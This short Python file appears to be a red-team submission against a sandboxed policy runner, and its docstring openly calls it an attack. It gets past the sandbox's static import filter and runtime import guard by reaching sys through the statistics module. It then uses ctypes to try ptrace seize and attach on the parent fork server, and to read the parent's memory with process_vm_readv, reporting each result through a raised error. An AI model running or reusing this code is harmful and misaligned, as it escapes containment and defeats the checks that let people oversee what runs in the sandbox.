"""ATTACK: take the fork server over: attach to getppid() with ptrace (PTRACE_SEIZE, then
PTRACE_ATTACH) and, failing that, read its memory with process_vm_readv. The zygote must
survive untouched, and the next program must be forked from it as before."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
os = _sys.modules["os"]
ctypes = _sys.modules["ctypes"]


def policy(obs):
    ppid = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)
    report = [f"seize={libc.ptrace(0x4206, ppid, None, None)}/{ctypes.get_errno()}"]
    report.append(f"attach={libc.ptrace(16, ppid, None, None)}/{ctypes.get_errno()}")
    buf = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = (ctypes.c_void_p * 2)(0x400000, 64)
    report.append(f"vm_readv={libc.process_vm_readv(ppid, local, 1, remote, 1, 0)}/{ctypes.get_errno()}")
    raise RuntimeError("; ".join(report))
